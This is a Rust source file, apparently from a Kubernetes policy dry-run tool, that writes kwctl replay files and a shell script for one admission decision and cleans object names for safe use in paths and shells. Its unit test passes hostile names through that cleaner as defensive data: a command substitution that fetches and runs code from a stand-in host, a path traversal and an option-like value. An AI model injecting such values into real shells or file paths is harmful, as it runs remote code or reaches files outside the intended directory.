//! A decision of the page as files that kwctl replays: the request, what the policy read for it, and the settings.

use headroom_dry_run::evaluate::session;
use serde::Serialize;
use serde_json::{Value, json};

use crate::memo::Memo;
use crate::play::{Play, Scene};

#[derive(Debug, Serialize)]
#[cfg_attr(not(target_arch = "wasm32"), derive(schemars::JsonSchema), schemars(rename = "Replay"))]
pub struct Files {
    /// `pod-db-0`
    pub name: String,
    pub files: Vec<File>,
}

#[derive(Debug, Serialize)]
#[cfg_attr(not(target_arch = "wasm32"), derive(schemars::JsonSchema))]
pub struct File {
    pub name: String,
    pub text: String,
}

/// The files of the first object that is wanted, counted from 0 as in the rows of an outcome.
pub fn files(play: &Play) -> Result<Files, String> {
    let Scene { manifests, mut run, settings, .. } = play.scene(&mut Memo::default());
    // Each object is evaluated in what those before it leave behind.
    let mut decision = None;
    for manifest in manifests.iter().take(play.from.saturating_add(1)) {
        decision = Some(run.evaluate(&manifest.object));
    }
    let decision = decision.filter(|_| play.from < manifests.len()).ok_or("there is no such object")?;
    let name = file_name(&decision.kind.kind, &decision.name);
    let mut files = vec![
        File { name: format!("{name}.request.json"), text: text(&decision.request) },
        File { name: format!("{name}.session.yml"), text: session::text(&decision.exchanges) },
    ];
    let mut command = format!(
        "kwctl run --allow-context-aware -r {name}.request.json \\\n  \
         --replay-host-capabilities-interactions {name}.session.yml"
    );
    if settings != json!({}) {
        files.push(File { name: format!("{name}.settings.json"), text: text(&settings) });
        command.push_str(&format!(" --settings-path {name}.settings.json"));
    }
    let script = format!(
        "#!/bin/sh\n# {}: {}\n{command} annotated-policy.wasm\n",
        decision.object.replace('\n', " "),
        decision.verdict
    );
    files.push(File { name: "replay.sh".to_owned(), text: script });
    Ok(Files { name, files })
}

fn text(value: &Value) -> String {
    // OK because a value has no keys that are no text.
    serde_json::to_string_pretty(value).unwrap_or_default() + "\n"
}

/// Longer than names of Kubernetes, and shorter than file systems allow with an ending.
const LONGEST: usize = 200;

/// `pod-db-0`: how the files of a decision on an object begin. Of a name that the API server would refuse, only what is safe in
/// paths and shells: whoever replays a decision did not choose the name.
fn file_name(kind: &str, name: &str) -> String {
    let is_safe = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-');
    let text = format!("{}-{}", kind.to_lowercase(), name.trim_end_matches('-'));
    let safe = text.chars().map(|c| if is_safe(c) { c } else { '_' });
    // A leading dot or dash would hide the file, or be an option.
    safe.take(LONGEST).collect::<String>().trim_start_matches(['.', '-']).to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_names_are_safe_in_paths_and_shells() {
        let check = |kind: &str, name: &str, expected: &str| assert_eq!(file_name(kind, name), expected);
        check("Pod", "db-0", "pod-db-0");
        check("Pod", "web-", "pod-web");
        check("Pod", "x$(curl evil|sh)", "pod-x__curl_evil_sh_");
        check("Pod", "a/../../x\ny", "pod-a_.._.._x_y");
        check("-rf ../", "é", "rf_.._-_");
        assert_eq!(file_name("Pod", &"x".repeat(10_000)).len(), LONGEST);
    }
}
